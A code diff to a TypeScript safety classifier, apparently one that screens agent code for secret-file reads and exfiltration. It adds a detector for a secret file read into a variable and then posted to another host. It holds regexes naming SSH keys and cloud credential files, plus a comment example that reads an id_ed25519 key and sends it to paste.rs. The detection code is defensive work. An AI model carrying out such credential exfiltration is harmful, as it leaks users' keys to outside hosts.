@@ -729,8 +729,13 @@ function firstArg(expr: string): string {
     }
     if (ch === '"' || ch === "'" || ch === '`') q = ch;
     else if (ch === '(' || ch === '[' || ch === '{') depth++;
-    else if (ch === ')' || ch === ']' || ch === '}') depth--;
-    else if (ch === ',' && depth === 0) {
+    else if (ch === ')' || ch === ']' || ch === '}') {
+      // The call's own closing parenthesis ends its argument list (the next line's literals are no part of the path).
+      if (--depth < 0) {
+        end = i;
+        break;
+      }
+    } else if (ch === ',' && depth === 0) {
       end = i;
       break;
     }
@@ -956,7 +961,7 @@ function pathDeletion(p: string, recursive: boolean, what: string): Finding[] {
 }
 
 /** File reads in many languages: open(p), readFileSync(p), File.read(p), file_get_contents(p), read_text, ReadAllText, Files.readString. */
-const FILE_READ_CALL = /\b(?:open|io\.open|readFileSync|readFile|File\.read|File\.readlines|IO\.read|file_get_contents|file|read_text|read_to_string|ReadAllText|ReadAllLines|readString|readAllBytes|ReadFile|fopen|slurp|Deno\.readTextFile(?:Sync)?|Bun\.file)\s*\(|\bcontentsOfFile:\s*/g;
+const FILE_READ_CALL = /\b(?:open|io\.open|readFileSync|readFile|File\.read|File\.readlines|IO\.read|file_get_contents|file|read_text|read_to_string|ReadAllText(?:Async)?|ReadAllLines(?:Async)?|ReadAllBytes(?:Async)?|readString|readAllBytes|ReadFile|fopen|slurp|Deno\.readTextFile(?:Sync)?|Bun\.file)\s*\(|\bcontentsOfFile:\s*/g;
 /** Key material and cloud or cluster credentials: printed, they are a live secret in the transcript. */
 const KEY_OR_CLOUD_CRED = /(?:^|[\\/])(?:id_(?:rsa|ed25519|ecdsa|dsa)|[\w.-]+\.(?:pem|key|p12|pfx|ppk))$|[\\/]\.(?:aws|kube|gnupg|docker)[\\/]|[\\/]\.ssh[\\/]id_|(?:^|[\\/])(?:credentials(?:\.json)?|service[-_]?account[\w-]*\.json|\.vault-token|\.netrc|\.pgpass|\.git-credentials)$/i;
 
@@ -978,13 +983,37 @@ function secretFileReads(code: string): Finding[] {
   }
   for (const p of paths) {
     if (!p || !(pathKind(p) === 'secret' || SECRET_FILE_NAME.test(p))) continue;
+    const sent = boundSecretSent(code);
+    if (sent) {
+      out.push(f(sent.local ? 'dangerous' : 'forbidden', `sends secrets (${snippet(p, 40)}) read into ${sent.name} to ${sent.host}`));
+      break;
+    }
     const printed = PRINT_CALL.test(code) || /\bprint\s*<|\bputs\b|\becho\b/.test(code);
-    if (printed && KEY_OR_CLOUD_CRED.test(p)) out.push(f('dangerous', `prints key material or cloud credentials (${snippet(p, 50)}) into the transcript`));
+    // Printing from code is `cat` of the file (cls-code13, README decisions): reading a secret, dangerous when the input
+    // names production or a live system, as in bash, PowerShell and prose.
+    if (printed && KEY_OR_CLOUD_CRED.test(p)) out.push(readSecret(`prints key material or cloud credentials (${snippet(p, 50)}) into the transcript`, true));
     else out.push(readSecret(`reads a secrets file (${snippet(p, 50)})`, true));
     break;
   }
   return out;
 }
+/**
+ * A secret file read into a name, then that name handed to a request to another host (key = fs.readFileSync(…id_ed25519);
+ * fetch('https://paste.rs', { body: key })): the secret leaves, as `cat key | curl -d @- …` does (cls-code13).
+ */
+function boundSecretSent(code: string): { name: string; host: string; local: boolean } | null {
+  const bind = /(?:^|[\s;({])(?:(?:const|let|var|val|my|final|auto)\s+)?[$@]?([A-Za-z_]\w*)\s*(?::=|=)\s*(?:await\s+|try\s+)?[^=\n;]{0,120}?(?:open|readFileSync|readFile|File\.read|IO\.read|file_get_contents|read_text|read_to_string|ReadAllText|readString|ReadFile|contentsOfFile:)/.exec(code);
+  if (!bind) return null;
+  const name = bind[1] as string;
+  const after = code.slice(bind.index + bind[0].length);
+  const sent = new RegExp(`\\b(?:fetch|axios(?:\\.post|\\.put)?|requests\\.(?:post|put)|httpx\\.(?:post|put)|http\\.(?:post|put|request)|got\\.post|Net::HTTP\\.post(?:_form)?|HTTParty\\.post|PostAsync|PutAsync|urlopen|curl_setopt|Invoke-RestMethod|\\.post|\\.put)\\s*\\(?[^;\\n]*?["'\`](https?:\\/\\/[^"'\`\\s/]+)[^;]*?\\b${name}\\b`).exec(after);
+  // PHP's curl names the URL in curl_init and the body in an option.
+  const send = sent ?? new RegExp(`curl_init\\(\\s*["'](https?:\\/\\/[^"'\\s/]+)[\\s\\S]{0,300}?CURLOPT_POSTFIELDS\\s*,[^)]*\\$${name}\\b`).exec(after);
+  if (!send) return null;
+  const host = (send[1] as string).replace(/^https?:\/\//, '');
+  return { name, host, local: /^(?:localhost|127\.|\[::1\])|\.(?:internal|corp|lan|intra|private)(?::\d+)?$/.test(host) };
+}
+
 /** A path object read whole (pathlib, Kotlin/Java Path): the receiver chain names the file. */
 const PATH_OBJECT_READ = /((?:pathlib\.)?Path(?:\.home\(\s*\)|\(\s*["'][^"'\n]*["']\s*\))(?:\s*\/\s*["'][^"'\n]*["']|\s*\.\s*(?:joinpath|expanduser|resolve)\s*\([^()\n]*\))*)\s*\)?\s*\.\s*(?:read_text|read_bytes|open|readText|readBytes)\s*\(/g;
 const SECRET_FILE_NAME = /(?:^|[\\/])(?:\.env(?:\.[\w-]+)?|credentials(?:\.json)?|secrets?\.(?:json|ya?ml)|[\w-]*\.(?:pem|key)|id_(?:rsa|ed25519|ecdsa)|\.netrc|\.pgpass|\.git-credentials|\.vault-token)$/i;
